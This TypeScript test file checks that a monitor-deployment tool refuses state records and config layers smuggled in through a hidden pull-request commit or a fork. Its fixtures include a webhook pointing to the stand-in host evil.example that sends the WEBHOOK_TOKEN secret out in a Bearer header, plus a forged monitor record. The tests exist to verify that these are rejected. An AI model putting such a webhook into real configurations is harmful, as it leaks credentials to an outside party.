import {hashJson} from '../../src/core/json/canonical';
import type {JsonObject} from '../../src/core/json/value';
import type {RecordedMonitor} from '../../src/core/state/state';
import {bareSpecFor, specFor} from '../world/cli';
import {editState} from '../world/edited-state';
import {type MergeWorld, startMergeWorld} from '../world/merge-world';

/** Records whose content a pull request writes, or that it adds, without a comment that shows it: in a hidden last commit, or from a fork. */
let world: MergeWorld;
afterEach(() => world.close());

const STATE = 'monitors.state.json';
const TOKEN = {WEBHOOK_TOKEN: 'tok-0123456789abcdef'};
const REFUSED = {exitCode: 3, outputs: {'failure-reason': 'plan-changed'}};
const configOf = (operations: 'create' | 'full') =>
  `project: acme-web\nsecrets: {allow: [WEBHOOK_TOKEN]}\n${operations === 'full' ? 'service: {operations: full}\n' : ''}`;

async function start(operations: 'create' | 'full' = 'full', spec = specFor('first')): Promise<void> {
  world = await startMergeWorld({'monitors.config.yaml': configOf(operations), 'monitors/first.yaml': spec}, {}, operations);
  expect((await world.apply({sha: world.repository.tipOf('main')})).exitCode).toBe(0);
  world.letTimePass();
}

type Files = Readonly<Record<string, string | null>>;

/** Merges what no comment shows. */
async function merge(by: 'a hidden commit' | 'a fork', hidden: Files, shown: Files = {'README.md': 'Hello\n'}) {
  if (by === 'a fork') {
    const sha = world.repository.commit('main', {...shown, ...hidden});
    world.github.linkCommit(sha, {number: 900, base: 'main', headSha: sha, mergeCommitSha: sha, merged: true, isFork: true});
    return world.apply({sha}, {env: TOKEN});
  }
  const pull = await world.openPullRequest(shown);
  world.repository.commit(pull.branch, hidden);
  return world.apply(world.mergePullRequest(pull), {env: TOKEN});
}

/** The state, with the record of a key as an edit makes it. */
function rewrite(edit: (record: RecordedMonitor) => RecordedMonitor, key = 'first'): Files {
  const text = editState(world.repository.readFile('main', STATE) ?? '', monitors => {
    const record = monitors.get('first');
    if (record !== undefined) monitors.set(key, edit(record));
    return {};
  });
  return {[STATE]: text};
}

const live = () => world.emulator.monitors().map(({id, status, goal}) => ({id, status, goal}));

describe.each(['a hidden commit', 'a fork'] as const)('S122: %s', by => {
  test.each<{name: string; drift: JsonObject; edit: (record: RecordedMonitor) => RecordedMonitor}>([
    {
      name: 'that it was paused, which somebody did in the dashboard',
      drift: {status: 'paused'},
      edit: record => ({...record, paused: true}),
    },
    {
      name: 'an edit that somebody made in the dashboard',
      drift: {goal: 'by hand'},
      edit: record => ({...record, applied: {...record.applied, goal: 'by hand'}, bodyHash: '0'.repeat(64)}),
    },
    {
      name: 'a webhook that somebody set in the dashboard, so that it would be replaced',
      drift: {webhook: {url: 'https://own.example/', headers: {}, metadata: {}, events: ['monitor.page', 'monitor.check.completed']}},
      edit: record => ({...record, applied: {...record.applied, webhook: {url: 'https://own.example/'}}, bodyHash: '0'.repeat(64)}),
    },
  ])('writes into the record $name: nothing is undone', async ({drift, edit}) => {
    await start();
    world.emulator.dashboard.edit(String(live()[0]?.id), drift);
    const before = live();
    const run = await merge(by, rewrite(edit));
    expect([run.exitCode, run.stdout]).toEqual([1, expect.stringContaining('plan/state-change')]);
    expect(live()).toEqual(before);
  });

  test.each(['create', 'full'] as const)(
    'writes that an update was made, which it was not, operations %s: it waits, by name',
    async operations => {
      await start(operations);
      const edited = specFor('first').replace('hourly', 'daily');
      const spec = {'monitors/first.yaml': edited};
      const bodyHash = hashJson({name: 'first', schedule: {text: 'daily'}, targets: [{type: 'scrape', urls: ['https://first.example/']}]});
      const written = rewrite(record => ({...record, applied: {...record.applied, schedule: {text: 'daily'}}, bodyHash}));
      const run = await merge(by, written, spec);
      expect([run.exitCode, run.stdout]).toEqual([1, expect.stringContaining('"first"')]);
      // As the message says.
      const event = {
        name: 'workflow_dispatch',
        sha: world.repository.tipOf('main'),
        ref: 'refs/heads/main',
        payload: {repository: {default_branch: 'main'}},
      };
      const allowed = await world.apply(
        {sha: world.repository.tipOf('main')},
        {event, inputs: {command: 'apply', 'allow-state-change': 'acme-web/default'}},
      );
      expect(allowed).toMatchObject({exitCode: 0});
    },
  );
});

test('an edited record that the comment shows goes through, and other content of it later does not', async () => {
  await start();
  const pull = await world.openPullRequest(rewrite(record => ({...record, labels: {team: 'a'}})));
  expect((await world.apply(world.mergePullRequest(pull))).exitCode).toBe(0);
  const other = await world.openPullRequest(rewrite(record => ({...record, labels: {team: 'b'}})));
  world.repository.commit(
    other.branch,
    rewrite(record => ({...record, labels: {team: 'c'}})),
  );
  expect((await world.apply(world.mergePullRequest(other))).exitCode).toBe(1);
});

test('a person who pushes an edited record is asked nothing', async () => {
  await start();
  const sha = world.repository.commit(
    'main',
    rewrite(record => ({...record, labels: {team: 'a'}})),
  );
  expect((await world.apply({sha})).exitCode).toBe(0);
});

const LAYER = {
  'monitors/new/_defaults.yaml': 'webhook: {url: https://evil.example/in, headers: {Authorization: "Bearer ${env:WEBHOOK_TOKEN}"}}\n',
};
const SITE = {'monitors/new/site.yaml': bareSpecFor('site')};

describe.each(['create', 'full'] as const)('S123: a hidden layer does not count as shown, operations %s', operations => {
  test('by a spec that was refused with it, and was taken away', async () => {
    await start(operations);
    expect(await merge('a hidden commit', {...LAYER, 'monitors/new/evil.yaml': bareSpecFor('evil')})).toMatchObject(REFUSED);
    await world.apply({sha: world.repository.commit('main', {'monitors/new/evil.yaml': null})}, {env: TOKEN});
    expect(await merge('a fork', {}, SITE)).toMatchObject(REFUSED);
    expect(world.monitors()).toEqual(['first']);
  });

  test('by a record that came with it', async () => {
    await start(operations);
    const webhook = {url: 'https://evil.example/in', headers: {Authorization: 'Bearer ${env:WEBHOOK_TOKEN}'}};
    const forge = (record: RecordedMonitor): RecordedMonitor => ({
      ...record,
      id: '11111111-2222-4333-8444-555555555555',
      specPath: 'new/evil.yaml',
      inherited: {'new/_defaults.yaml': ['webhook']},
      applied: {...record.applied, webhook},
    });
    await merge('a hidden commit', {...LAYER, 'monitors/new/evil.yaml': bareSpecFor('evil'), ...rewrite(forge, 'new/evil')});
    expect((await merge('a fork', {}, SITE)).exitCode).not.toBe(0);
    expect(world.monitors()).toEqual(['first']);
  });
});
